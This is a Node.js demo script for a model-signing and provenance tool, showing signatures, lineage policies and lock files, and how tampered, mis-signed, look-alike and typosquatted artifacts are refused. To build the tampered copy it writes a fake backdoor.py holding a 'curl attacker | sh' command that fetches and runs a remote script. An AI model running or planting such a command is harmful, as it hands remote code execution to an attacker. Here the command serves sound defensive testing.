#!/usr/bin/env node
// `npm run demo`: signs and verifies the bundled example artifacts with the example
// keys, then shows tampered and mis-signed copies refused. Works on copies in a
// temporary folder; the bundled files are never touched.
'use strict';
const { spawnSync } = require('node:child_process');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

const repo = path.resolve(__dirname, '..');
const bin = path.join(repo, 'bin', 'run.js');
if (!fs.existsSync(path.join(repo, 'dist', 'index.js'))) {
  console.error('modelseal is not built yet: run `npm install` (or `npm run build`) first.');
  process.exit(2);
}
const work = fs.mkdtempSync(path.join(os.tmpdir(), 'modelseal-demo-'));
const keys = path.join(repo, 'keys-example');
const tty = process.stdout.isTTY;
const c = (code, text) => (tty ? `\x1b[${code}m${text}\x1b[0m` : text);
const rel = (p) => (p.startsWith(work) ? '$DEMO' + p.slice(work.length) : path.isAbsolute(p) ? path.relative(process.cwd(), p) || '.' : p);
let failures = 0;

function section(title) {
  console.log(`\n${c('1;4', title)}`);
}

function run(title, args, expectStatus) {
  console.log(`\n${c(1, `# ${title}`)}`);
  console.log(`$ modelseal ${args.map((a) => (a.includes(' ') ? JSON.stringify(rel(a)) : rel(a))).join(' ')}`);
  const r = spawnSync(process.execPath, [bin, ...args], { encoding: 'utf8' });
  process.stdout.write((r.stdout + r.stderr).split(work).join('$DEMO'));
  const ok = r.status === expectStatus;
  console.log(c(ok ? 32 : 31, `${ok ? '✓' : '✗'} exit ${r.status} (expected ${expectStatus})`));
  if (!ok) failures++;
  return r;
}

console.log(`modelseal demo — working on copies in ${work} ($DEMO)`);
fs.cpSync(path.join(repo, 'examples', 'artifacts'), work, { recursive: true });
const model = path.join(work, 'tiny-llm');
const adapter = path.join(work, 'adapter.safetensors');
fs.copyFileSync(path.join(work, 'tiny-lora', 'adapter_model.safetensors'), adapter);

section('Signing and verifying');
run('The root digest of a model folder (what a signature binds)', ['digest', model], 0);
run('Sign the model with the publisher key (writes model.sig inside the folder)', ['sign', model, '--key', path.join(keys, 'publisher-ed25519.key')], 0);
run('Verify it before rollout', ['verify', model, '--key', path.join(keys, 'publisher-ed25519.pub')], 0);
run('Sign a single adapter file with a P-256 key (writes <file>.sig beside it)', ['sign', adapter, '--key', path.join(keys, 'publisher-p256.key')], 0);
run('Verify the adapter', ['verify', adapter, '--key', path.join(keys, 'publisher-p256.pub')], 0);

const tampered = path.join(work, 'tiny-llm-tampered');
fs.cpSync(model, tampered, { recursive: true });
const weights = path.join(tampered, 'model.safetensors');
const bytes = fs.readFileSync(weights);
bytes[bytes.length - 1] ^= 0x01; // flip one bit of one weight
fs.writeFileSync(weights, bytes);
fs.writeFileSync(path.join(tampered, 'backdoor.py'), 'import os; os.system("curl attacker | sh")\n');
run('A copy with one flipped bit and an added file is refused (exit 1)', ['verify', tampered, '--key', path.join(keys, 'publisher-ed25519.pub')], 1);
run('A signature by a key the deployer does not trust is refused (exit 1)', ['verify', model, '--key', path.join(keys, 'untrusted-ed25519.pub')], 1);

section('Lineage: dataset (curator) + base model (publisher) -> LoRA adapter (trainer)');
const dataset = path.join(work, 'tiny-dataset');
const lora = path.join(work, 'tiny-lora');
const attestations = path.join(work, 'attestations');
fs.mkdirSync(attestations);
run('The curator signs the dataset', ['sign', dataset, '--key', path.join(keys, 'curator-ed25519.key')], 0);
run('... and attests where it came from', ['attest', dataset, '--kind', 'dataset', '--source', `https://example.org/dump.tar@sha256:${'ab'.repeat(32)}`, '--license', 'CC-BY-4.0', '--key', path.join(keys, 'curator-ed25519.key')], 0);
run('The trainer attests the adapter, binding base and dataset by digest', ['attest', lora, '--kind', 'lora', '--base', model, '--dataset', dataset, '--builder-id', 'https://ci.example.com/trainer', '--param', 'r=2', '--param', 'lr=2e-4', '--key', path.join(keys, 'trainer-p256.key')], 0);
for (const [from, to] of [[path.join(dataset, 'model.sig'), 'dataset.sig'], [path.join(dataset, 'provenance.sig'), 'dataset.provenance.sig'], [path.join(model, 'model.sig'), 'base.sig']]) {
  fs.copyFileSync(from, path.join(attestations, to));
}
const policy = path.join(work, 'policy.yaml');
fs.writeFileSync(
  policy,
  `apiVersion: modelseal.dev/policy/v1
signers:
  publisher: { keys: [${path.join(keys, 'publisher-ed25519.pub')}] }
  curator: { keys: [${path.join(keys, 'curator-ed25519.pub')}] }
  trainer: { keys: [${path.join(keys, 'trainer-p256.pub')}] }
artifacts:
  - name: tiny-lora
    signers: [trainer]
    kinds: [lora]
    builders: [https://ci.example.com/trainer]
    lineage: required
    roots: [publisher, curator]
  - name: "example-org/*"
    signers: [publisher]
  - name: "**"
    signers: [publisher, curator]
`,
);
run('The deployer checks its policy file', ['policy', 'check', policy], 0);
run('... and verifies the adapter with its whole lineage before loading it on the base', ['verify', lora, '--policy', policy, '--lineage', '--attestations', attestations, '--with', model], 0);
const lookalike = path.join(work, 'lookalike', 'tiny-llm');
fs.cpSync(model, lookalike, { recursive: true });
fs.rmSync(path.join(lookalike, 'model.sig'));
fs.appendFileSync(path.join(lookalike, 'config.json'), '\n');
run('An attacker signs a look-alike base model with its own key', ['sign', lookalike, '--key', path.join(keys, 'untrusted-ed25519.key')], 0);
run('Loading the adapter on the look-alike base is refused (exit 1)', ['verify', lora, '--policy', policy, '--attestations', attestations, '--with', lookalike], 1);

section('Lock files and typosquatting');
const lock = path.join(work, 'modelseal.lock');
run('Pin the base model by name, digest and signer', ['lock', 'add', 'example-org/tiny-llm', model, '--key', path.join(keys, 'publisher-ed25519.pub'), '--lock', lock], 0);
run('Every pinned artifact is present, unchanged and signed by the same key', ['lock', 'verify', '--lock', lock], 0);
run('A look-alike name is flagged before anything is downloaded (exit 1)', ['lock', 'check-name', 'examp1e-org/tiny-llm', '--lock', lock], 1);

console.log('\n' + (failures === 0 ? c(32, 'Demo finished: every step behaved as expected.') : c(31, `Demo finished with ${failures} unexpected result(s).`)));
fs.rmSync(work, { recursive: true, force: true });
process.exit(failures === 0 ? 0 : 1);
